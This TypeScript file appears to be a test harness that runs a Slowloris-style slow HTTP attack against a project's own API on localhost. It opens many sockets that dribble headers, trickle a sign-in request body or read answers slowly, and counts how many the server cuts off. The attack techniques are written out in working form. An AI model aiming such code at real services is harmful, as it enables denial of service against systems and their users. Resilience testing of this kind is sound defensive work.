import { once } from 'node:events';
import { type AddressInfo, connect, createServer, type Socket } from 'node:net';
import { setTimeout as delay } from 'node:timers/promises';
import { antiForgeryHeader, apiBase } from '@atrium/contract/endpoint';
import type { SlowAttack, SlowHold } from './slow/slow-story.ts';

/** Holds many sockets that dribble heads, bodies and reads; who is cut off comes again a second later, who is not let in five. */
const { port, sockets, addresses } = JSON.parse(process.argv[2] ?? '') as SlowAttack;
const everyMs = 1000;
/** As long as a slow socket is let live: the attack is slowness, not a storm of connections. */
const spreadMs = 5000;

const lines = (...all: readonly string[]) => all.join('\r\n');
const describe = lines(`GET ${apiBase}/openapi.json HTTP/1.1`, 'host: localhost', '', '');
/** On one machine the kernel keeps several megabytes of answers for who reads none. Only what comes then waits in the API. */
const answerBytes = (await (await fetch(`http://127.0.0.1:${port}${apiBase}/openapi.json`)).arrayBuffer()).byteLength;
const asks = Math.floor((await bytesKept()) / answerBytes) + 1;
const askMs = 400;
const kinds = {
  head: {
    text: lines(`GET ${apiBase}/location HTTP/1.1`, 'host: localhost', 'x-slow: '),
    more: (socket: Socket) => void socket.write('a'),
  },
  body: {
    text: lines(
      `POST ${apiBase}/identity/sign-in HTTP/1.1`,
      'host: localhost',
      'content-type: application/json',
      `${antiForgeryHeader}: 1`,
      'content-length: 5000',
      '',
      '{',
    ),
    more: (socket: Socket) => void socket.write(' '),
  },
  read: {
    // The largest answer that a stranger gets.
    text: describe,
    // Node then takes up to 64 KB from the machine, so it is rare: about 6 KB a second.
    more: (socket: Socket) => void (Math.random() < 0.1 && socket.read(1)),
  },
};
const names = ['head', 'body', 'read'] as const;
const open = new Map<Socket, (typeof names)[number]>();
let cutOff = 0;
let isStopping = false;

function attack(number: number): void {
  if (isStopping) return;
  const name = names[number % names.length] ?? 'head';
  const localAddress = addresses[number % addresses.length];
  const socket = connect({ port, host: '127.0.0.1', ...(localAddress === undefined ? {} : { localAddress }) });
  const { text, more } = kinds[name];
  const openedAt = performance.now();
  const timer = setInterval(() => more(socket), everyMs);
  socket.once('connect', () => open.set(socket, name));
  if (name === 'read') {
    socket.on('readable', () => undefined);
    for (let ask = 1; ask < asks; ask += 1) setTimeout(() => socket.writable && socket.write(describe), ask * askMs);
  } else socket.resume();
  socket.on('error', () => undefined);
  socket.once('close', () => {
    clearInterval(timer);
    if (open.delete(socket)) cutOff += 1;
    setTimeout(() => attack(number), performance.now() - openedAt < everyMs ? spreadMs : everyMs);
  });
  socket.write(text);
}

// Not all in one moment: what is measured is slowness, not a storm.
for (let number = 0; number < sockets; number += 1) setTimeout(() => attack(number), (number / sockets) * spreadMs);

process.on('message', (word) => {
  if (word === 'stop') {
    isStopping = true;
    for (const socket of open.keys()) socket.destroy();
    process.exit(0);
  }
  const of = (kind: string) => [...open.values()].filter((name) => name === kind).length;
  const hold: SlowHold = { head: of('head'), body: of('body'), read: of('read'), cutOff };
  process.send?.(hold);
});

/** What the kernel takes from a writer for a reader who reads nothing. */
async function bytesKept(): Promise<number> {
  const stillMs = 500;
  const part = Buffer.alloc(65_536);
  const server = createServer().listen(0, '127.0.0.1');
  await once(server, 'listening');
  const reader = connect((server.address() as AddressInfo).port, '127.0.0.1').pause();
  const [writer] = (await once(server, 'connection')) as [Socket];
  let bytes = 0;
  const writeOn = () =>
    writer.write(part, (error) => {
      if (error) return;
      bytes += part.length;
      writeOn();
    });
  writeOn();
  for (let before = -1; before < bytes; ) {
    before = bytes;
    await delay(stillMs);
  }
  reader.destroy();
  writer.destroy();
  server.close();
  return bytes;
}
